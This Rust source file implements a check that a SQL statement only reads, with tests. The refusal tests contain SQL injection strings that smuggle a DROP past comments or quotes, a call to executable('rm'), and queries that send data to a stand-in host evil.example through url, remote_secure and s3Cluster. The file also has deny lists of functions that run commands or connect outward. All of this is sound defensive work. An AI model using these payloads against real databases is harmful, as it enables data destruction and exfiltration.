//! Whether a statement can only read, for what is run because a page is shown. Servers differ in
//! their SQL, so this knows no grammar: it refuses whatever any of them could take for more than
//! one reading statement. Work is linear in the length of the text.

/// Bytes of a statement that is looked at.
const LONGEST: usize = 1 << 20;

/// What a statement that reads begins with, behind opening parentheses.
const READING: &[&str] = &[
    "SELECT", "WITH", "SHOW", "DESCRIBE", "DESC", "EXPLAIN", "EXISTS", "FROM", "VALUES",
];

/// What a statement that changes something begins with, alone or behind `WITH`, `EXPLAIN` or a
/// parenthesis.
const CHANGING: &[&str] = &[
    "ALTER", "ANALYZE", "ATTACH", "BACKUP", "BEGIN", "CALL", "COMMIT", "COPY", "CREATE", "DELETE",
    "DETACH", "DO", "DROP", "EXCHANGE", "EXECUTE", "GRANT", "INSERT", "KILL", "LOAD", "LOCK",
    "MERGE", "MOVE", "OPTIMIZE", "PAUSE", "RECOVER", "REFRESH", "RENAME", "REPLACE", "RESTORE",
    "RESUME", "REVOKE", "SET", "SYSTEM", "TRANSFER", "TRUNCATE", "UNDROP", "UNPAUSE", "UPDATE",
    "UPSERT", "USE", "VACUUM",
];

/// Words that make a reading statement write, wherever they stand.
const WRITING: &[&str] = &["INTO", "OUTFILE", "DUMPFILE"];

/// Functions that do something when they are called.
const ACTING: &[&str] = &[
    "EXECUTABLE",
    "SETVAL",
    "NEXTVAL",
    "SETCONFIG",
    "DBLINKEXEC",
    "GENERATESERIALID",
];

/// Functions that make a server connect to an address of the statement, which may carry away what
/// whoever looks may read. Without `_` and `Cluster`.
const CONNECTING: &[&str] = &[
    "AZUREBLOBSTORAGE",
    "DBLINK",
    "DELTALAKE",
    "GCS",
    "HDFS",
    "HUDI",
    "ICEBERG",
    "JDBC",
    "MONGODB",
    "MYSQL",
    "ODBC",
    "POSTGRESQL",
    "REDIS",
    "REMOTE",
    "REMOTESECURE",
    "S3",
    "URL",
];

/// `Err`: why it may do more than read, in words.
pub fn check(sql: &str) -> Result<(), String> {
    let tokens = Tokens::of(sql)?;
    let mut tokens = tokens.0.as_slice();
    while let [rest @ .., Token::Sign(';')] = tokens {
        tokens = rest;
    }
    if tokens.contains(&Token::Sign(';')) {
        return Err("there is more than one statement".into());
    }
    let begin = tokens.iter().find(|token| **token != Token::Sign('('));
    match begin {
        Some(Token::Word(word)) if READING.contains(&word.as_str()) => {}
        Some(Token::Word(word)) => return Err(format!("{word} does not only read")),
        _ => return Err("it is no statement that reads".into()),
    }
    for (at, token) in tokens.iter().enumerate() {
        let Token::Word(word) = token else { continue };
        let next = tokens.get(at + 1);
        let word = word.as_str();
        // In front of a name the word is a statement's; else it is itself the name of something.
        let begins = matches!(next, Some(Token::Word(_) | Token::Quoted));
        let locks = word == "UPDATE" && at > 0 && tokens[at - 1] == Token::Word("FOR".into());
        if next == Some(&Token::Sign('(')) {
            called(word)?;
        }
        let shown = word == "CREATE" && at == 1 && tokens[0] == Token::Word("SHOW".into());
        if shown {
            continue;
        }
        if WRITING.contains(&word) || CHANGING.contains(&word) && begins || locks {
            return Err(format!("{word} may change something"));
        }
    }
    Ok(())
}

/// `word` is called as a function.
fn called(word: &str) -> Result<(), String> {
    let name = word.replace('_', "");
    let name = name.strip_suffix("CLUSTER").unwrap_or(&name);
    match (ACTING.contains(&name), CONNECTING.contains(&name)) {
        (true, _) => Err(format!("{word} may change something")),
        (_, true) => Err(format!("{word} may send what it reads elsewhere")),
        _ => Ok(()),
    }
}

#[derive(Debug, PartialEq)]
enum Token {
    /// In capital letters.
    Word(String),
    /// A text or a name in quotes.
    Quoted,
    Sign(char),
}

struct Tokens(Vec<Token>);

impl Tokens {
    fn of(sql: &str) -> Result<Self, String> {
        if sql.len() > LONGEST {
            return Err(format!("it is longer than {LONGEST} bytes"));
        }
        let mut tokens = Vec::new();
        let mut rest = sql;
        while let Some(first) = rest.chars().next() {
            let length = match first {
                '-' if rest.starts_with("--") => comment_line(rest)?,
                '/' if rest.starts_with("/*") => comment_block(rest)?,
                '\'' | '"' | '`' => {
                    tokens.push(Token::Quoted);
                    quoted(rest, first)?
                }
                ' ' | '\t' | '\n' | '\r' => 1,
                c if c.is_ascii_alphanumeric() || c == '_' => {
                    let word = |c: char| !(c.is_ascii_alphanumeric() || c == '_');
                    let length = rest.find(word).unwrap_or(rest.len());
                    tokens.push(Token::Word(rest[..length].to_ascii_uppercase()));
                    length
                }
                // Comments of some servers, texts of others.
                '#' | '$' | '\\' => return Err(format!("servers read {first} differently")),
                c if c.is_ascii_graphic() => {
                    tokens.push(Token::Sign(c));
                    1
                }
                c => {
                    let code = u32::from(c);
                    return Err(format!(
                        "servers read the character U+{code:04X} differently"
                    ));
                }
            };
            rest = &rest[length..];
        }
        Ok(Self(tokens))
    }
}

/// Bytes of a comment up to the end of its line. What could be read as something else is refused.
fn comment_line(text: &str) -> Result<usize, String> {
    let length = text.find('\n').unwrap_or(text.len());
    let line = &text[..length];
    let ends_early = line.trim_end_matches('\r').contains([
        '\r', '\u{85}', '\u{2028}', '\u{2029}', '\u{b}', '\u{c}', '\0',
    ]);
    // MySQL takes `--x` for two signs.
    let spaced = line[2..].is_empty() || line[2..].starts_with([' ', '\t', '\r', '-']);
    if ends_early || !spaced && line.contains(';') {
        return Err("servers end a comment of it at different places".into());
    }
    Ok(length)
}

fn comment_block(text: &str) -> Result<usize, String> {
    let Some(end) = text[2..].find("*/") else {
        return Err("a comment of it does not end".into());
    };
    let inside = &text[2..2 + end];
    if inside.contains("/*") || inside.starts_with(['!', '+']) || inside.contains('\0') {
        return Err("servers read a comment of it differently".into());
    }
    Ok(end + 4)
}

/// Bytes of a quoted text with its quotes. A doubled quote stands for itself.
fn quoted(text: &str, quote: char) -> Result<usize, String> {
    let mut escapes = 0usize;
    let mut characters = text.char_indices().skip(1).peekable();
    while let Some((at, c)) = characters.next() {
        match c {
            '\\' => escapes += 1,
            '\0' => return Err("servers end a text of it at different places".into()),
            c if c == quote => {
                // Where a backslash means nothing the text ends here, elsewhere it goes on.
                if escapes % 2 == 1 {
                    return Err("servers end a text of it at different places".into());
                }
                if characters.next_if(|(_, next)| *next == quote).is_none() {
                    return Ok(at + 1);
                }
                escapes = 0;
            }
            _ => escapes = 0,
        }
    }
    Err("a text of it does not end".into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_reads_passes() {
        for reads in [
            "SELECT 1",
            "select * from s where a = 'DROP STREAM x; INSERT INTO y'",
            "  -- DROP STREAM s\n SELECT 1 -- the end",
            "/* DELETE FROM x */ SELECT /* in between */ 1;",
            "((SELECT 1))",
            "WITH a AS (SELECT 1), b AS (SELECT 2) SELECT * FROM a, b",
            "SELECT count() FROM tumble(s, 5s) GROUP BY window_start EMIT PERIODIC 2s",
            "SELECT replace(a, 'x', 'y'), \"drop\", t.update, set, b FROM table(t) SETTINGS seek_to = '-1h'",
            "EXPLAIN SELECT 1",
            "SHOW STREAMS",
            "DESCRIBE s",
            "SELECT 'it''s', 'a\\\\', 'größer', match(a, '\\d+') FROM s;;",
            "SELECT * FROM `größe`",
            "SELECT 1 --\n",
            "SELECT 1 /* größer; */",
            "FROM s SELECT a",
            "SELECT url, remote FROM s WHERE domain(url) = 'a'",
        ] {
            assert_eq!(check(reads), Ok(()), "{reads}");
        }
    }

    #[test]
    fn what_could_change_something_is_refused() {
        for changes in [
            "",
            ";",
            "DROP STREAM victim",
            "drop/**/stream victim",
            "(DROP STREAM victim)",
            "-- SELECT\nDROP STREAM victim",
            "/* SELECT 1 */ DROP STREAM victim",
            "/* /* */ DROP STREAM victim -- */ SELECT 1",
            "/*! DROP STREAM victim */ SELECT 1",
            "/*!50000 DROP*/ SELECT 1",
            "SELECT 1; DROP STREAM victim",
            "SELECT 1;DROP STREAM victim;",
            "SELECT 1 SETTINGS a = 1; DROP STREAM victim",
            "SELECT 1 -- x\r; DROP STREAM victim",
            "SELECT 1 --;\u{2028}DROP STREAM victim",
            "SELECT 1 --x; DROP STREAM victim",
            "SELECT 'a\\'; DROP STREAM victim; --'",
            "SELECT \"a\\\"; DROP STREAM victim; --\"",
            "SELECT '",
            "SELECT /* 1",
            "SELECT $$a$$; DROP STREAM victim",
            "SELECT 1 # ; DROP STREAM victim",
            "SELECT\u{a0}1",
            "DROP\u{3000}STREAM victim",
            "\u{feff}SELECT 1",
            "SELECT \u{2018}a\u{2019}",
            "SELECT\u{0}1",
            "INSERT INTO t SELECT 1",
            "WITH a AS (SELECT 1) INSERT INTO t SELECT * FROM a",
            "WITH a AS (DELETE FROM t RETURNING *) SELECT * FROM a",
            "WITH a AS (SELECT 1) DELETE FROM t",
            "WITH a AS (SELECT 1) UPDATE \"t\" SET x = 1",
            "EXPLAIN ANALYZE DELETE FROM t",
            "EXPLAIN ANALYZE SELECT 1",
            "EXPLAIN INSERT INTO t VALUES (1)",
            "EXPLAIN CREATE STREAM x (a int)",
            "SELECT * INTO t FROM s",
            "SELECT * FROM s INTO OUTFILE 'x'",
            "SELECT * FROM t FOR UPDATE",
            "SELECT * FROM executable('rm', TSV, 'a string')",
            "SELECT * FROM url('http://evil.example/?' || a, CSV)",
            "SELECT * FROM a, remote_secure ('evil.example', d.t)",
            "DESCRIBE s3Cluster('c', 'https://evil.example/')",
            "SELECT generateSerialID('a')",
            "SYSTEM RELOAD CONFIG",
            "SET allow_ddl = 1",
            "USE other",
            "KILL QUERY WHERE 1",
            "TRUNCATE STREAM t",
            "CREATE MATERIALIZED VIEW v AS SELECT 1",
            "ALTER STREAM s DROP COLUMN a",
            "EXECUTE('x')",
        ] {
            assert!(check(changes).is_err(), "{changes:?}");
        }
    }

    #[test]
    fn long_and_deep_texts_are_read_in_one_pass() {
        let deep = format!("{}SELECT 1{}", "(".repeat(200_000), ")".repeat(200_000));
        assert_eq!(check(&deep), Ok(()));
        assert!(check(&"(".repeat(LONGEST + 1)).is_err());
    }
}
